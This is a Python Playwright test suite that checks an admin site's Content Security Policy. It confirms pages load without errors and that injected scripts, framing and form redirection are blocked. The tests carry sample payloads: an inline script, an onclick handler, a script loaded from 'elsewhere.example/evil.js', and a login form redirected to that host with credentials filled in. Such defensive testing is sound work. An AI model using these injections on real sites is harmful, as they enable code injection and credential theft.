"""The content security policy in a browser: every kind of page works under it, and a script that got into one does not
run. That no page offends against it is watched in all browser tests (conftest.signed_in)."""

import re

import pytest
from playwright.sync_api import expect

from tests.e2e.conftest import at_rest

pytestmark = pytest.mark.long

PAGES = {
    "the start page": "/admin/",
    "a list": "/admin/bc/customer/",
    "a new record": "/admin/crm/account/add/",
    "runs": "/admin/integration/synchrun/",
    "table mappings": "/admin/integration/tablemapping/",
    "the wizard": "/admin/integration/tablemapping/new/",
    "the full synchronisation": "/admin/integration/fullsynchreviewline/",
    "issues": "/admin/integration/issue/",
    "the connection": "/admin/integration/connection/",
    "a transformation rule": "/admin/integration/transformationrule/add/",
    "reading a file": "/admin/bc/customer/import/",
    "a project": "/admin/p2c/project/",
}
#: lists whose first record is opened as well
OPENED = ("/admin/bc/customer/", "/admin/integration/synchrun/", "/admin/integration/tablemapping/",
          "/admin/integration/issue/", "/admin/p2c/project/")  # fmt: skip


def test_every_kind_of_page_works_under_the_policy(page):
    broken = []
    page.on("pageerror", lambda error: broken.append(f"{page.url}: {error}"))
    for address in PAGES.values():
        assert page.goto(address).status == 200
        at_rest(page)
        if address in OPENED:
            with page.expect_navigation():
                page.locator("#result_list tbody th a, #result_list tbody td a").first.click()
            at_rest(page)
            expect(page.locator("#content")).to_be_visible()
    assert broken == []


def test_alpine_works_which_the_menu_needs(page):
    """The theme's scripts run: its switch of light and dark opens."""
    page.goto("/admin/")
    assert page.evaluate("typeof window.Alpine") == "object"
    assert page.evaluate("typeof window.htmx") == "object"


def test_the_interface_is_described_without_a_script_in_the_page(page):
    page.goto("/api/schema/swagger/")
    expect(page.locator(".swagger-ui .info .title")).to_contain_text("P2C", timeout=60_000)
    assert page.locator("script:not([src])").count() == 0


@pytest.mark.parametrize(
    ("kind", "make"),
    [
        ("an element", "e = document.createElement('script'); e.textContent = 'window.got_in = 1'"),
        (
            "an attribute",
            "e = document.createElement('b'); e.setAttribute('onclick', 'window.got_in = 1'); e.click()",
        ),
        ("another host", "e = document.createElement('script'); e.src = 'https://elsewhere.example/evil.js'"),
    ],
)
def test_a_script_that_got_into_a_page_does_not_run(company, chromium, kind, make):
    context = chromium.new_context(base_url=company.address)
    page = context.new_page()
    page.goto("/admin/login/")
    with page.expect_console_message(lambda message: "Content Security Policy" in message.text):
        page.evaluate(f"() => {{ let e; {make}; document.body.appendChild(e); }}")
    at_rest(page)
    assert page.evaluate("window.got_in") is None, kind
    context.close()


def test_the_site_cannot_be_framed_and_forms_go_nowhere_else(company, chromium):
    context = chromium.new_context(base_url=company.address)
    page = context.new_page()
    page.goto("/admin/login/")
    frame = "const f = document.createElement('iframe'); f.src = '/admin/'; document.body.appendChild(f)"
    with page.expect_console_message(lambda said: re.search("frame-ancestors|X-Frame-Options", said.text) is not None):
        page.evaluate(f"() => {{ {frame}; }}")
    form = "const f = document.querySelector('form'); f.action = 'https://elsewhere.example/'; f.requestSubmit()"
    page.fill("[name=username]", "someone")
    page.fill("[name=password]", "something")
    with page.expect_console_message(lambda said: "form-action" in said.text):
        page.evaluate(f"() => {{ {form}; }}")
    at_rest(page)
    assert "/admin/login/" in page.url
    context.close()
